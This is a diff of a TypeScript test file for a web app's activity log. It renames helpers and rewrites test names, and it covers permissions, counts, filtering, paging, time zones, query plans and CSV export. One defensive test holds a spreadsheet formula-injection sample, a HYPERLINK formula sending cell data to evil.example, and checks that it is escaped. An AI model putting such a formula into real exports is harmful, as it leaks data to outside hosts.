@@ -1,8 +1,8 @@
 import { parse } from "csv-parse/sync";
 import { eq } from "drizzle-orm";
 import { beforeAll, beforeEach, describe, expect, test } from "vitest";
-import { type ActivityFilter, everyEntry, formattedDetails, isDay } from "#app/domain/activity/activity.ts";
-import { activityFile } from "#app/domain/activity/activity-csv.server.ts";
+import { type ActivityFilter, emptyFilter, formattedDetails, isDay } from "#app/domain/activity/activity.ts";
+import { activityCsv } from "#app/domain/activity/activity-csv.server.ts";
 import { eventsByDay } from "#app/domain/activity/activity-days.server.ts";
 import { clearActivity, countActivity, listActivity, searchActivity } from "#app/domain/activity/activity-log.server.ts";
 import { cell } from "#app/domain/core/csv-cells.ts";
@@ -30,21 +30,21 @@ const log = (entry: Entry = {}) =>
     .values({ action: "test.act", description: "Somebody did something", resource: "other", ...entry })
     .returning()
     .get();
-/** Many entries in one transaction: each by itself would wait for the disk. */
+/** Uses one transaction, because each transaction waits for the disk. */
 const logMany = (count: number, entryOf: (n: number) => Entry) =>
   db().transaction(() => {
     for (let n = 0; n < count; n++) log(entryOf(n));
   });
-const found = (filter: Partial<ActivityFilter>, before: number | null = null, limit = 100) =>
-  searchActivity({ ...everyEntry, ...filter }, { before, limit });
-const idsOf = (filter: Partial<ActivityFilter>) => found(filter).entries.map(({ id }) => id);
+const search = (filter: Partial<ActivityFilter>, before: number | null = null, limit = 100) =>
+  searchActivity({ ...emptyFilter, ...filter }, { before, limit });
+const idsOf = (filter: Partial<ActivityFilter>) => search(filter).entries.map(({ id }) => id);
 
-describe("who may read and clear it (spec §6)", () => {
-  test("members are refused 403 with the spec's sentence", () => {
+describe("permission to read and clear the log", () => {
+  test("members can't read the log", () => {
     expect(() => listActivity(anna, null)).toThrow("Failed to load activity logs. Administrator access may be required.");
   });
 
-  test("a member cannot clear it, and that they tried is in it", async () => {
+  test("members can't clear the log, and their attempt is logged", async () => {
     log();
     await expect(clearActivity.perform(actorOf(anna), {})).rejects.toMatchObject({ status: 403 });
     expect(listActivity(chief, null)).toMatchObject([
@@ -53,7 +53,7 @@ describe("who may read and clear it (spec §6)", () => {
     ]);
   });
 
-  test("clearing leaves one entry, which says who did it and how many there were", async () => {
+  test("clearing the log leaves one entry that tells who did it and how many entries were deleted", async () => {
     logMany(1200, (n) => ({ success: n % 10 !== 0 }));
     expect(await clearActivity.perform(actorOf(chief), {})).toEqual({ cleared: 1200 });
     expect(listActivity(chief, null)).toMatchObject([
@@ -68,13 +68,13 @@ describe("who may read and clear it (spec §6)", () => {
 });
 
 describe("the summary", () => {
-  const counted = () => {
+  const countRows = () => {
     const rows = db().select({ success: activityLogs.success }).from(activityLogs).all();
     const failed = rows.filter(({ success }) => !success).length;
     return { successful: rows.length - failed, failed, total: rows.length };
   };
 
-  test("is what counting would say, whoever wrote or deleted, and after what was rolled back", async () => {
+  test("matches the number of entries after inserts, deletes, and rollbacks", async () => {
     logMany(20, (n) => ({ success: n % 4 !== 0 }));
     expect(countActivity()).toEqual({ successful: 15, failed: 5, total: 20 });
     db().delete(activityLogs).where(eq(activityLogs.success, false)).run();
@@ -90,13 +90,13 @@ describe("the summary", () => {
       },
     });
     await expect(broken.perform(actorOf(chief), {})).rejects.toThrow(TypeError);
-    expect(countActivity()).toEqual(counted());
+    expect(countActivity()).toEqual(countRows());
     expect(countActivity().total).toBe(15);
   });
 });
 
 describe("the list", () => {
-  test("filters by resource, by result and by both", () => {
+  test("filters by resource, by result, and by both", () => {
     const [a, b, c] = [log({ resource: "auth" }), log({ resource: "auth", success: false }), log({ success: false })];
     expect(idsOf({ resource: "auth" })).toEqual([b.id, a.id]);
     expect(idsOf({ result: "failed" })).toEqual([c.id, b.id]);
@@ -104,7 +104,7 @@ describe("the list", () => {
     expect(idsOf({ resource: "auth", result: "failed" })).toEqual([b.id]);
   });
 
-  test("filters by member: an id, or part of a name or e-mail address, in any case and without accents", () => {
+  test("filters by a member's id or part of a name or email address, ignoring case and accents", () => {
     const [a, b] = [log({ userId: anna.id, resource: "auth", success: false }), log({ userId: ben.id })];
     log();
     for (const member of [String(anna.id), "nunez", "Anna Núñez", "Núñez, Anna", "ANNA@press"]) {
@@ -121,13 +121,13 @@ describe("the list", () => {
     ]);
   });
 
-  test("a name's part that many members have shows ten of them, and says so", async () => {
+  test("part of a name that more than ten members share finds ten of them and says that there are more", async () => {
     for (let n = 0; n < 11; n++) log({ userId: (await addMember({ lastName: `Kowalski ${n}` })).id });
-    expect(found({ member: "kowalski" })).toMatchObject({ areMoreMembers: true, entries: { length: 10 } });
-    expect(found({ member: "kowalski 10" })).toMatchObject({ areMoreMembers: false, entries: { length: 1 } });
+    expect(search({ member: "kowalski" })).toMatchObject({ hasMoreMembers: true, entries: { length: 10 } });
+    expect(search({ member: "kowalski 10" })).toMatchObject({ hasMoreMembers: false, entries: { length: 1 } });
   });
 
-  test("days are those of US Eastern time, also where the clock is changed", () => {
+  test("days are in US Eastern time, also when the clocks change", () => {
     const at = (moment: string) => log({ createdAt: new Date(moment) }).id;
     // Midnight is 5:00 UTC in winter and 4:00 in summer; on November 1, 2026 the day has 25 hours.
     const [before, first, last, after] = [
@@ -144,7 +144,7 @@ describe("the list", () => {
     expect(isDay("2024-02-29")).toBe(true);
   });
 
-  test("page by page nothing comes twice and nothing is missed, in any filter, also for entries of the same moment", () => {
+  test("paging repeats and misses no entry with any filter, even among entries of the same millisecond", () => {
     const now = new Date();
     logMany(60, (n) => ({
       userId: [anna.id, ben.id, null][n % 3] as number | null,
@@ -153,25 +153,25 @@ describe("the list", () => {
       createdAt: n < 30 ? now : new Date(),
     }));
     for (const filter of [{}, { resource: "auth" }, { result: "failed" }, { member: "example" }] as const) {
-      const whole = idsOf(filter);
-      const seen: number[] = [];
+      const allIds = idsOf(filter);
+      const pagedIds: number[] = [];
       for (let before: number | null = null, pages = 0; pages < 20; pages++) {
-        const page = found(filter, before, 7);
-        seen.push(...page.entries.map(({ id }) => id));
+        const page = search(filter, before, 7);
+        pagedIds.push(...page.entries.map(({ id }) => id));
         before = page.next;
         if (before === null) break;
       }
-      expect(seen, JSON.stringify(filter)).toEqual(whole);
+      expect(pagedIds, JSON.stringify(filter)).toEqual(allIds);
     }
   });
 
-  test("'before' an entry that was cleared meanwhile is an empty page, no fault", async () => {
+  test("the page before an entry that was cleared is empty", async () => {
     const old = log();
     await clearActivity.perform(actorOf(chief), {});
-    expect(found({}, old.id).entries).toEqual([]);
+    expect(search({}, old.id).entries).toEqual([]);
   });
 
-  test("the API's list has the newest 1,000, with the user or null and details as JSON text (spec §3)", () => {
+  test("the API lists the newest 1,000 entries, with the user or null and the details as JSON text", () => {
     logMany(1001, (n) => ({ userId: n % 2 ? anna.id : null, details: '{"n":1}' }));
     const newest = listActivity(chief, null);
     expect(newest).toHaveLength(1000);
@@ -182,7 +182,7 @@ describe("the list", () => {
     expect(listActivity(chief, newest.at(-1)?.id ?? 0)).toHaveLength(1);
   });
 
-  test("a million entries: every query walks an index, reads no entry it does not show, and never sorts the log", () => {
+  test("every query reads a covering index and never sorts the whole log, so that a million entries stay fast", () => {
     const { $client } = db();
     const prepare = $client.prepare.bind($client);
     const statements: string[] = [];
@@ -192,7 +192,7 @@ describe("the list", () => {
     }) as typeof $client.prepare;
     const day = { from: "2026-11-01", to: "2026-11-30" };
     const filters = [{}, { resource: "auth" }, { result: "failed" }, { resource: "auth", result: "failed" }] as const;
-    for (const filter of [...filters, { member: "2" }, { member: "2", ...filters[3] }]) found({ ...filter, ...day });
+    for (const filter of [...filters, { member: "2" }, { member: "2", ...filters[3] }]) search({ ...filter, ...day });
     eventsByDay(new Date());
     $client.prepare = prepare;
     expect(statements).toHaveLength(7);
@@ -201,17 +201,17 @@ describe("the list", () => {
       const plan = (prepare(`explain query plan ${statement}`).all(...values) as { detail: string }[]).map(
         ({ detail }) => detail,
       );
-      const walks = plan.filter((step) => /activity_logs/.test(step) && !/INTEGER PRIMARY KEY/.test(step));
-      expect(walks.length, statement).toBeGreaterThan(0);
-      for (const walk of walks) expect(walk, statement).toMatch(/^SEARCH activity_logs USING COVERING INDEX activity_logs_/);
-      // The one sorting is of the hundred that were found; sorting by the last term is of entries of the same moment.
+      const indexSteps = plan.filter((step) => /activity_logs/.test(step) && !/INTEGER PRIMARY KEY/.test(step));
+      expect(indexSteps.length, statement).toBeGreaterThan(0);
+      for (const step of indexSteps) expect(step, statement).toMatch(/^SEARCH activity_logs USING COVERING INDEX activity_logs_/);
+      // One sort is allowed: that of the hundred entries found.
       expect(plan.filter((step) => step === "USE TEMP B-TREE FOR ORDER BY").length, statement).toBeLessThanOrEqual(1);
     }
   });
 });
 
-describe("events a day", () => {
-  test("the last 30 days of US Eastern time, oldest first, days without events too", () => {
+describe("events per day", () => {
+  test("covers the last 30 days in US Eastern time, oldest first, including days without events", () => {
     const now = new Date("2026-11-21T04:30:00Z");
     for (const moment of ["2026-11-21T04:10:00Z", "2026-11-20T05:00:00Z", "2026-10-22T04:00:00Z"])
       log({ createdAt: new Date(moment) });
@@ -226,14 +226,14 @@ describe("events a day", () => {
   });
 });
 
-describe("the file for spreadsheet programs", () => {
+describe("the CSV file", () => {
   const fileOf = async (filter: Partial<ActivityFilter> = {}) => {
     const parts: string[] = [];
-    for await (const part of activityFile({ ...everyEntry, ...filter })) parts.push(part);
+    for await (const part of activityCsv({ ...emptyFilter, ...filter })) parts.push(part);
     return parts.join("");
   };
 
-  test("quotes, commas and line breaks come back as they were, with a column for each field", async () => {
+  test("quotes, commas, and line breaks survive, and each field has a column", async () => {
     const description = 'Ben "the kiln" Abbott,\r\nsigned in';
     log({
       userId: ben.id,
@@ -257,7 +257,7 @@ describe("the file for spreadsheet programs", () => {
         Action: "test.act",
         "User id": String(ben.id),
         Name: "Ben Abbott",
-        "E-mail": "ben@kiln.example",
+        Email: "ben@kiln.example",
         "IP address": "",
         Browser: "",
         Details: '{"a":"b, \\"c\\""}',
@@ -265,32 +265,32 @@ describe("the file for spreadsheet programs", () => {
     ]);
   });
 
-  test("text that a spreadsheet program would run as a formula stands behind an apostrophe", () => {
+  test("text that a spreadsheet program would run as a formula starts with an apostrophe", () => {
     const attack = '=HYPERLINK("http://evil.example?"&A1,"ok")';
     expect(cell(attack)).toBe(`"'=HYPERLINK(""http://evil.example?""&A1,""ok"")"`);
     for (const text of ["+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1"]) expect(cell(text).slice(0, 2), text).toBe(`"'`);
     expect([cell("Anna = Ben"), cell(-3), cell(null)]).toEqual(['"Anna = Ben"', "-3", ""]);
   });
 
-  test("follows the filter, newest first, and ends after 10,000 entries", async () => {
+  test("follows the filter, newest first, and contains at most 10,000 entries", async () => {
     logMany(10_100, (n) => ({ resource: n % 100 === 0 ? "auth" : "other", description: `n ${n}` }));
     const lines = (text: string) => parse(text, { bom: true, columns: true }) as { Description: string }[];
-    const whole = lines(await fileOf());
-    expect([whole.length, whole[0]?.Description, whole.at(-1)?.Description]).toEqual([10_000, "n 10099", "n 100"]);
+    const rows = lines(await fileOf());
+    expect([rows.length, rows[0]?.Description, rows.at(-1)?.Description]).toEqual([10_000, "n 10099", "n 100"]);
     expect(lines(await fileOf({ resource: "auth" }))).toHaveLength(101);
   });
 });
 
-test("details are shown a line for each field, and as they are where they are no JSON", () => {
+test("details are shown one field per line, and unchanged if they aren't JSON", () => {
   expect(formattedDetails('{"city":{"from":null,"to":"Queens"}}')).toBe(
     '{\n  "city": {\n    "from": null,\n    "to": "Queens"\n  }\n}',
   );
   expect(formattedDetails("by hand")).toBe("by hand");
 });
 
-test("entries of a member who is no longer stored stay, without a user", async () => {
-  const gone = await addMember();
-  log({ userId: gone.id });
-  db().delete(users).where(eq(users.id, gone.id)).run();
+test("entries of a deleted member stay, without a user", async () => {
+  const deleted = await addMember();
+  log({ userId: deleted.id });
+  db().delete(users).where(eq(users.id, deleted.id)).run();
   expect(listActivity(chief, null)).toMatchObject([{ userId: null, user: null }]);
 });
